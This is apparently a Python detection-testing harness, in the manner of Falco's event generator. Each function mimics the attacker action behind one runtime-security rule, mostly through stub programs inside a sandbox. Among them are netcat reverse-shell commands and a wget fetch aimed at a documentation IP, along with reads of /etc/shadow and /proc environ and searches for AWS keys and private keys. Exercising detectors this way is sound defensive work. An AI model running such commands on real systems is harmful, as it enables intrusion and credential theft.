"""What an attacker does, for each stock rule that sensors of this machine can see: one function a rule.

Each is run as a process of its own, in a container-like box; what falcosecurity/event-generator has an action for is
done here in Python. Nothing of it leaves the box's overlay, but for connections that are begun and not waited for.
"""

from __future__ import annotations

import ctypes
import os
import pty
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

Action = Callable[[], None]
ACTIONS: dict[str, Action] = {}
HOST: set[str] = set()
"""Rules about the host: their actions are run outside of a box, in a folder of their own."""
_SYSCALLS = {"bpf": 321, "userfaultfd": 323, "setns": 308, "init_module": 175}  # x86_64
_libc = ctypes.CDLL(None, use_errno=True)
_PUBLIC = "203.0.113.7"  # TEST-NET-3: nobody is there


def attack(*rules: str, host: bool = False) -> Callable[[Action], Action]:
    def keep(action: Action) -> Action:
        for rule in rules:
            ACTIONS[rule] = action
            if host:
                HOST.add(rule)
        return action

    return keep


def program(name: str, like: str = "true") -> str:
    """A program of this name, which is another one."""
    folder = Path(tempfile.mkdtemp(prefix="attack-"))
    source = shutil.which(like) or sys.executable
    (folder / name).symlink_to(os.path.realpath(source) if like != "python" else sys.executable)
    return str(folder / name)


def run(name: str, *arguments: str, like: str = "true", **options: object) -> None:
    subprocess.run([program(name, like), *arguments], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   check=False, **options)  # type: ignore[call-overload]


def shell(name: str, script: str, **options: object) -> None:
    """A shell of this name runs a script. What ends it keeps it from becoming its last command."""
    run(name, "-c", f"{script}; :", like="bash", **options)


def write(path: str, flags: int = os.O_CREAT | os.O_WRONLY | os.O_TRUNC, mode: int = 0o644) -> None:
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    os.close(os.open(path, flags, mode))


def read(*paths: str) -> None:
    run("cat", *paths, like="cat")


def reach(address: str, port: int, kind: int = socket.SOCK_STREAM) -> None:
    """Begin to connect, and do not wait."""
    with socket.socket(socket.AF_INET, kind) as peer:
        peer.setblocking(False)
        peer.connect_ex((address, port))


def syscall(name: str, *arguments: int) -> None:
    _libc.syscall(ctypes.c_long(_SYSCALLS[name]), *map(ctypes.c_long, arguments))


def on_terminal(*argv: str) -> None:
    """With a terminal of its own, as `kubectl exec -it` gives one."""
    child, master = pty.fork()
    if child == 0:
        os.execv(argv[0], argv)
    try:
        while os.read(master, 1024):
            pass
    except OSError:
        pass
    os.waitpid(child, 0)


# --- files ----------------------------------------------------------------------------------------------------------

@attack("Directory traversal monitored file read")
def traversal() -> None:
    read("/etc/../etc/../etc/passwd")


@attack("Read sensitive file untrusted")
def shadow() -> None:
    read("/etc/shadow")


@attack("Read sensitive file trusted after startup")
def shadow_later() -> None:
    shell("httpd", "sleep 5.2; read -r line < /etc/shadow")


@attack("Clear Log Activities")
def log() -> None:
    write("/var/log/auth.log")


@attack("Create Symlink Over Sensitive Files")
def symlink() -> None:
    os.symlink("/etc/shadow", "shadow")


@attack("Create Hardlink Over Sensitive Files")
def hardlink() -> None:
    try:
        os.link("/etc/shadow", "nowhere/shadow")
    except OSError:
        pass


@attack("Detect release_agent File Container Escapes")
def release_agent() -> None:
    write("release_agent")


@attack("Modify Shell Configuration File")
def shell_configuration() -> None:
    write("/root/.bashrc", os.O_WRONLY | os.O_APPEND | os.O_CREAT)


@attack("Read Shell Configuration File")
def shell_configuration_read() -> None:
    write("/root/.profile")
    read("/root/.profile")


@attack("Schedule Cron Jobs")
def cron() -> None:
    write("/etc/cron.d/attack")


@attack("Read ssh information")
def ssh() -> None:
    write("/root/.ssh/config")
    read("/root/.ssh/config")


@attack("Adding ssh keys to authorized_keys")
def keys() -> None:
    write("/home/somebody/.ssh/authorized_keys")


@attack("Create files below dev")
def device() -> None:
    write("/dev/attack")


@attack("Delete or rename shell history")
def history() -> None:
    write("/root/.bash_history")
    os.unlink("/root/.bash_history")


@attack("Set Setuid or Setgid bit")
def setuid_bit() -> None:
    write("program")
    os.chmod("program", 0o4755)


@attack("Read environment variable from /proc files")
def environment() -> None:
    read("/proc/1/environ")


@attack("Exfiltrating Artifacts via Kubernetes Control Plane")
def copied_out() -> None:
    write("/tmp/secret")
    shell("runc", f"{program('tar', 'cat')} /tmp/secret")


@attack("Backdoored library loaded into SSHD (CVE-2024-3094)")
def xz() -> None:
    write("/usr/lib/liblzma.so.5.6.1")
    run("sshd", "/usr/lib/liblzma.so.5.6.1", like="cat")


@attack("Update Package Repository")
def repositories() -> None:
    write("/etc/apt/sources.list.d/attack.list")


@attack("Write below binary dir")
def binary() -> None:
    write("/usr/bin/attack")


@attack("Write below monitored dir")
def monitored() -> None:
    write("/usr/lib/attack")


@attack("Write below etc")
def configuration() -> None:
    write("/etc/attack")


@attack("Write below root")
def root() -> None:
    write("/attack")


@attack("Write below rpm database")
def rpm() -> None:
    write("/var/lib/rpm/attack")


@attack("Modify binary dirs")
def binary_moved() -> None:
    write("/usr/bin/attack")
    os.rename("/usr/bin/attack", "/usr/bin/attacked")


@attack("Mkdir binary dirs")
def binary_folder() -> None:
    os.mkdir("/usr/bin/attacked")


@attack("Create Hidden Files or Directories")
def hidden() -> None:
    os.makedirs("/tmp/attack/.hidden", exist_ok=True)


@attack("Container Drift Detected (chmod)")
def drift_mode() -> None:
    write("dropped")
    os.chmod("dropped", 0o755)


@attack("Container Drift Detected (open+create)")
def drift() -> None:
    write("dropped-executable", mode=0o755)


@attack("Modify Container Entrypoint")
def entrypoint() -> None:
    try:
        write("/proc/self/fd/1", os.O_WRONLY)
    except OSError:
        pass


@attack("Privileged Container Device Access")
def disk() -> None:
    write("/dev/sda")


@attack("Container Access to Host Sensitive Paths")
def host_path() -> None:
    write("/host/etc/attack")


# --- programs -------------------------------------------------------------------------------------------------------

@attack("Run shell untrusted", "Web Server Spawned Shell")
def shell_untrusted() -> None:
    shell("nginx", f"{program('bash', 'bash')} -c true")


@attack("System user interactive")
def system_user() -> None:
    shell("sshd", "setpriv --reuid=daemon /bin/ls")


@attack("Terminal shell in container")
def terminal() -> None:
    on_terminal(program("runc", "bash"), "-c", f"{program('bash', 'bash')} -c true; :")


@attack("Netcat Remote Code Execution in Container")
def netcat() -> None:
    run("nc", "-e", "/bin/sh", _PUBLIC, "4444")


@attack("Netcat/Socat Remote Code Execution on Host", host=True)
def netcat_host() -> None:
    run("nc", "-e", "/bin/sh", _PUBLIC, "4444")


@attack("Search Private Keys or Passwords")
def search() -> None:
    run("find", "/nowhere", "-name", "id_rsa")


@attack("Remove Bulk Data from Disk")
def shred() -> None:
    run("shred", "nothing")


@attack("Find AWS Credentials")
def aws() -> None:
    run("grep", "-r", "aws_access_key_id", "/nowhere")


@attack("Execution from /dev/shm")
def shared_memory() -> None:
    shutil.copy("/bin/true", "/dev/shm/attack")
    subprocess.run(["/dev/shm/attack"], check=False)


@attack("Drop and execute new binary in container")
def dropped() -> None:
    shutil.copy("/bin/true", "/tmp/attack/dropped")
    subprocess.run(["/tmp/attack/dropped"], check=False)


@attack("Fileless execution via memfd_create")
def fileless() -> None:
    file = os.memfd_create("attack")
    os.write(file, Path("/bin/true").read_bytes())
    if os.fork() == 0:
        os.execv(f"/proc/self/fd/{file}", ["attack"])
    os.wait()


@attack("DB program spawned process")
def database() -> None:
    shell("mysqld", "/bin/ls")


@attack("Launch Excessively Capable Container", "Container Run as Root User")
def started() -> None:
    """The box itself is what starts."""


@attack("Program run with disallowed http proxy env")
def proxied() -> None:
    run("curl", env={"HTTP_PROXY": "http://proxy"})


@attack("Potential Local Privilege Escalation via Environment Variables Misuse")
def tunables() -> None:
    run("su", env={"GLIBC_TUNABLES": "glibc.malloc.mxfast=A"})


@attack("User mgmt binaries", host=True)
def users() -> None:
    run("usermod", "-L", "nobody")


@attack("Launch Package Management Process in Container")
def packages() -> None:
    run("apk", "add", "nmap")


@attack("Launch Suspicious Network Tool in Container")
def network_tool() -> None:
    run("nmap", "10.0.0.0/8")


@attack("Launch Suspicious Network Tool on Host", host=True)
def network_tool_host() -> None:
    run("nmap", "10.0.0.0/8")


@attack("Launch Remote File Copy Tools in Container")
def copied() -> None:
    run("scp", "file", f"{_PUBLIC}:")


@attack("Launch Ingress Remote File Copy Tools in Container")
def fetched() -> None:
    run("wget", f"http://{_PUBLIC}/x")


@attack("Detect crypto miners using the Stratum protocol")
def stratum() -> None:
    run("miner", "-o", "stratum+tcp://pool:3333")


@attack("Kubernetes Client Tool Launched in Container")
def client() -> None:
    run("kubectl", "get", "secrets")


@attack("Sudo Potential Privilege Escalation")
def sudo() -> None:
    run("sudoedit", "-s", "\\")


@attack("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)")
def polkit() -> None:
    if os.fork() == 0:
        os.execv(program("pkexec"), ["pkexec"])
    os.wait()


@attack("Decoding Payload in Container")
def decoding() -> None:
    run("base64", "-d", "payload")


@attack("Basic Interactive Reconnaissance")
def reconnaissance() -> None:
    on_terminal(program("whoami"))


@attack("Network Tool Executed During NPM Package Install")
def npm() -> None:
    shell("npm", program("nc"))


@attack("Known Cryptominer Process Executed")
def miner() -> None:
    run("xmrig")


@attack("Web Server Spawned Suspicious Child Process")
def web_child() -> None:
    shell("apache2", program("whoami"))


@attack("Reverse Shell from Web Server")
def reverse() -> None:
    shell("php-fpm", f"{program('bash')} -i")


# --- network --------------------------------------------------------------------------------------------------------

@attack("Packet socket created in container")
def packet() -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        pass


@attack("Redirect STDOUT/STDIN to Network Connection in Container")
def redirected() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as peer:
        if os.fork() == 0:
            os.dup2(peer.fileno(), 0)
            os._exit(0)
        os.wait()


@attack("Disallowed SSH Connection Non Standard Port")
def ssh_port() -> None:
    run("ssh", "-c", f"import socket; s = socket.socket(); s.setblocking(False); s.connect_ex(('{_PUBLIC}', 443))",
        like="python")


@attack("System procs network activity")
def system_network() -> None:
    run("bash", "-c", f"exec 3<>/dev/udp/{_PUBLIC}/5000", like="bash")


@attack("Unexpected UDP Traffic")
def udp() -> None:
    reach(_PUBLIC, 5000, socket.SOCK_DGRAM)


@attack("Contact EC2 Instance Metadata Service From Container", "Contact cloud metadata service from container")
def metadata() -> None:
    reach("169.254.169.254", 80)


@attack("Interpreted procs outbound network activity")
def interpreted() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.sendto(b"", (_PUBLIC, 5001))


def _accepted() -> None:
    """Somebody connects, by an address that is not the loopback's."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as route:
        route.connect((_PUBLIC, 9))
        address = route.getsockname()[0]
    with socket.create_server((address, 0)) as server, socket.create_connection(server.getsockname()):
        server.accept()[0].close()


@attack("Interpreted procs inbound network activity", "Unexpected inbound connection source")
def inbound() -> None:
    _accepted()


@attack("Unexpected K8s NodePort Connection")
def node_port() -> None:
    reach(_PUBLIC, 30080)


# --- the kernel -----------------------------------------------------------------------------------------------------

@attack("Linux Kernel Module Injection Detected")
def module() -> None:
    syscall("init_module", 0, 0, 0)  # there is nothing to load: that it was asked for is the event


@attack("PTRACE attached to process")
def attached() -> None:
    child = os.fork()
    if child == 0:
        time.sleep(30)
        os._exit(0)
    _libc.ptrace(16, child, None, None)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)


@attack("PTRACE anti-debug attempt")
def anti_debug() -> None:
    if os.fork() == 0:
        _libc.ptrace(0, 0, None, None)
        os._exit(0)
    os.wait()


@attack("Change thread namespace")
def namespace() -> None:
    file = os.open("/proc/self/ns/uts", os.O_RDONLY)
    syscall("setns", file, 0)


@attack("Change namespace privileges via unshare")
def unshare() -> None:
    run("setpriv", "--bounding-set", "-sys_admin", "--inh-caps", "-sys_admin", "unshare", "--user", "true",
        like="setpriv")


@attack("Non sudo setuid")
def setuid() -> None:
    if os.fork() == 0:
        os.setuid(1)
        try:
            os.setuid(0)
        except PermissionError:
            pass
        os._exit(0)
    os.wait()


@attack("BPF Program Not Profiled")
def bpf() -> None:
    syscall("bpf", 5, 0, 0)


@attack("Unprivileged Delegation of Page Faults Handling to a Userspace Process")
def page_faults() -> None:
    if os.fork() == 0:
        os.setuid(1)
        syscall("userfaultfd", 1)
        os._exit(0)
    os.wait()
